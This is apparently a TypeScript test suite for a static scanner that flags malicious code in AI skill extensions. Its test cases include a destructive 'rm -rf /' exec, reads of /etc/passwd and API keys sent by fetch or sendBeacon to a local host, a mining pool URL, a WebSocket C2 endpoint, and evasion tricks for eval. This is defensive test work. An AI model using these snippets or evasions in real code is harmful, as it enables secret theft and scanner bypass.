import { afterEach, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { hasCritical } from "../../../../src/extensions/skills/security/findings.ts";
import { MAX_SCANNED_FILE_BYTES, scanSkillDir, scanSource } from "../../../../src/extensions/skills/security/scanner.ts";

const ids = (source: string): string[] => scanSource(source, "skill.ts").map((f) => f.ruleId);

/** Each rule: sources that must trigger it and sources that must not. */
const CASES: Record<string, { hit: string[]; miss: string[] }> = {
  "dangerous-exec": {
    hit: ['import { execSync } from "child_process";\nexecSync("rm -rf /");', 'const cp = require("child_process"); cp.spawn("sh")'],
    miss: ['regex.exec("abc");', 'const s = "child_process"; console.log(s);'],
  },
  "dynamic-code-execution": {
    hit: ['eval("1+1")', "const f = new Function('return 1')", "Function('return this')()", "(0, eval)('x')", 'setTimeout("alert(1)", 10)', "const e = eval; e(code)", "[eval][0](code)", "const F = Function;", "Reflect.apply(eval, null, [c])"],
    miss: ['const evaluate = (x: number) => x; evaluate(1);', "setTimeout(() => 1, 10)", 'const s = "do not eval this";', "type F = Function;", "const o = { eval: 1 }; o.eval;", "function f(cb: Function) {}"],
  },
  "crypto-mining": {
    hit: ['const pool = "stratum+tcp://127.0.0.1:3333";', "import CoinHive from 'coinhive';", "startXMRig()"],
    miss: ['const strata = "geology";'],
  },
  "suspicious-network": {
    hit: ['new WebSocket("ws://127.0.0.1:6667/c2")', "new WebSocket('wss://[::1]:9001')"],
    miss: ['new WebSocket("wss://127.0.0.1:443/x")', 'new WebSocket("ws://localhost:3000")', 'new WebSocket("wss://127.0.0.1/x")'],
  },
  "semantic-unbounded-query": {
    hit: ["graphClient.patternQuery({ predicate: 'x' })", "graphClient.listTriples()", "patternQuery({ predicate: 'x', limit: 1000000 })"],
    miss: ["graphClient.patternQuery({ predicate: 'x', limit: 20 })"],
  },
  "semantic-unproven-assertion": {
    hit: ["assert({ predicate: 'p', requireProof: false })"],
    miss: ["assert({ predicate: 'p', requireProof: true })"],
  },
  "bracket-property-exec": {
    hit: ['window["eval"]("x")', "cp['execSync']('id')", 'globalThis["Func" + "tion"]("return this")'],
    miss: ['obj["name"] = 1;'],
  },
  "dynamic-require": {
    hit: ["const m = require(name);", 'require("./" + name)', "require(`${x}`)", "const m = c ? require(name) : {};", "const m = c ? require(n) : a || {};", "const m = c ? require(n) : f({});"],
    miss: ['const fs = require("fs");', "const p = require('./p.js');", "obj.require(name)", "class C { require(channel?: string): Entry { return this.pick(channel); } }"],
  },
  "global-this-access": {
    hit: ["globalThis[key]", "window[k]()"],
    miss: ["globalThis.console.log(1)", "myWindow[k]"],
  },
  "process-env-bracket": {
    hit: ['const t = process["env"]; fetch("http://127.0.0.1:9", { body: t })', 'const v = process.env[k]; fetch(u, { method: "POST", body: v })'],
    miss: ['const t = process["env"];', 'const v = process.env[k];'],
  },
  "dynamic-import": {
    hit: ["await import(mod)", 'import("./" + name)'],
    miss: ['await import("./local.js")', 'import { a } from "./a.js";'],
  },
  "constructor-chain": {
    hit: ["this.constructor.constructor('return process')()", '({})["constructor"]["constructor"]("x")', "x.constructor['constructor']", "o.constructor('return this')"],
    miss: ["class A { constructor() {} }", "this.constructor.name"],
  },
  "potential-exfiltration": {
    hit: ['const d = readFileSync("/etc/passwd"); fetch("http://127.0.0.1:9", { body: d })'],
    miss: ['const d = readFileSync("data.json");'],
  },
  "obfuscated-code-hex": {
    hit: ['const s = "\\x68\\x65\\x6c\\x6c\\x6f\\x21";', 'const s = "\\u0068\\u0065\\u006c\\u006c\\u006f\\u0021";'],
    miss: ['const s = "\\x41\\x42";'],
  },
  "obfuscated-code-base64": {
    hit: [`atob("${"QUJD".repeat(60)}")`, `Buffer.from("${"QUJD".repeat(30)}" + "${"QUJD".repeat(30)}", "base64")`],
    miss: ['atob("QUJD")', `const s = "${"QUJD".repeat(60)}";`],
  },
  "env-harvesting": {
    hit: ['const k = process.env.API_KEY; fetch("http://127.0.0.1:9/?k=" + k)', 'const e = process["e" + "nv"]; navigator.sendBeacon(u, JSON.stringify(e))'],
    miss: ["const port = process.env.PORT;", 'fetch("http://127.0.0.1:9")'],
  },
};

describe("layer 1: static scanner rules", () => {
  test("there are 16 distinct rules", () => {
    expect(Object.keys(CASES)).toHaveLength(16);
  });
  for (const [ruleId, { hit, miss }] of Object.entries(CASES)) {
    test(`${ruleId}: positives and negatives`, () => {
      for (const source of hit) expect({ source, ids: ids(source) }).toEqual({ source, ids: expect.arrayContaining([ruleId]) });
      for (const source of miss) expect({ source, ids: ids(source) }).toEqual({ source, ids: expect.not.arrayContaining([ruleId]) });
    });
  }
});

describe("layer 1: anti-evasion normalization", () => {
  const critical = (source: string): string[] => scanSource(source, "skill.ts").filter((f) => f.severity === "critical").map((f) => f.ruleId);
  test.each([
    ["split call", 'eval\n("1")', "dynamic-code-execution"],
    ["split across lines with operator", 'const r =\n  eval(\n    "1"\n  );', "dynamic-code-execution"],
    ["comment between name and call", 'eval/* hidden */("1")', "dynamic-code-execution"],
    ["unicode escape", '\\u0065val("1")', "dynamic-code-execution"],
    ["braced unicode escape", '\\u{65}val("1")', "dynamic-code-execution"],
    ["hex escape in identifier position", 'ev\\x61l("1")', "dynamic-code-execution"],
    ["string concatenation in brackets", 'window["ev" + "al"]("1")', "bracket-property-exec"],
    ["template concatenation", "globalThis[`ev` + `al`]('1')", "bracket-property-exec"],
    ["three-way concatenation", "globalThis['Fu' + 'nc' + 'tion']('return this')()", "bracket-property-exec"],
    ["concatenation split over lines", 'globalThis["Func" +\n "tion"]("x")', "bracket-property-exec"],
    ["line-continued string", 'globalThis["ev\\\nal"]("x")', "bracket-property-exec"],
    ["new Function split", "new\nFunction('x')", "dynamic-code-execution"],
    ["constructor chain split", "this.constructor\n  .constructor('return this')()", "constructor-chain"],
    ["require split", "require\n(name)", "dynamic-require"],
    ["child_process concatenated", 'const cp = require("child_" + "process"); cp.exec("id")', "dangerous-exec"],
    ["regex literal that looks like a comment start", 'const r = /\\//; eval("x")', "dynamic-code-execution"],
    ["regex literal with a quote hiding an alias", 'const r = /"/; const e = eval; e(c); // "', "dynamic-code-execution"],
    ["regex class with a slash", 'const r = /[/]/g; new Function("x")', "dynamic-code-execution"],
  ])("%s", (_name, source, ruleId) => {
    expect(critical(source)).toContain(ruleId);
  });

  test("comments, strings and regexes that only mention the calls are not findings", () => {
    expect(scanSource('// eval("x")\n/* new Function("y") */\nconst url = "http://127.0.0.1:9";\nconst re = /eval/;\nconst half = a / 2 / b;\n', "a.ts")).toEqual([]);
  });

  test("a line rule reports once per file with the line of the statement", () => {
    const findings = scanSource('const a = 1;\neval("1");\neval("2");\n', "a.ts");
    expect(findings).toEqual([{ ruleId: "dynamic-code-execution", severity: "critical", file: "a.ts", line: 2, message: expect.any(String) }]);
  });

  test("hasCritical", () => {
    expect(hasCritical(scanSource("graphClient.listTriples()", "a.ts"))).toBe(false);
    expect(hasCritical(scanSource("eval('x')", "a.ts"))).toBe(true);
  });
});

describe("layer 1: scanSkillDir", () => {
  let dir = "";
  afterEach(() => rmSync(dir, { recursive: true, force: true }));

  test("scans code files only, skips hidden dirs, node_modules and symlinks, names files relative", () => {
    dir = mkdtempSync(join(tmpdir(), "scan-"));
    mkdirSync(join(dir, "lib"));
    mkdirSync(join(dir, ".git"));
    mkdirSync(join(dir, "node_modules"));
    writeFileSync(join(dir, "skill.ts"), "export default { name: 'ok' };");
    writeFileSync(join(dir, "lib", "x.mjs"), "eval('1')");
    writeFileSync(join(dir, ".hidden.js"), "new Function('x')");
    writeFileSync(join(dir, "README.md"), "eval('docs only')");
    writeFileSync(join(dir, ".git", "hook.js"), "eval('1')");
    writeFileSync(join(dir, "node_modules", "dep.js"), "eval('1')");
    symlinkSync(join(dir, "lib", "x.mjs"), join(dir, "link.js"));
    const findings = scanSkillDir(dir);
    expect(findings.map((f) => `${f.file}:${f.ruleId}`).sort()).toEqual([".hidden.js:dynamic-code-execution", "lib/x.mjs:dynamic-code-execution"]);
  });

  test("an oversized code file is reported critical, not skipped silently", () => {
    dir = mkdtempSync(join(tmpdir(), "scan-"));
    writeFileSync(join(dir, "big.js"), "x".repeat(MAX_SCANNED_FILE_BYTES + 1));
    expect(scanSkillDir(dir)).toEqual([{ ruleId: "scan-incomplete", severity: "critical", file: "big.js", message: expect.any(String) }]);
  });
});
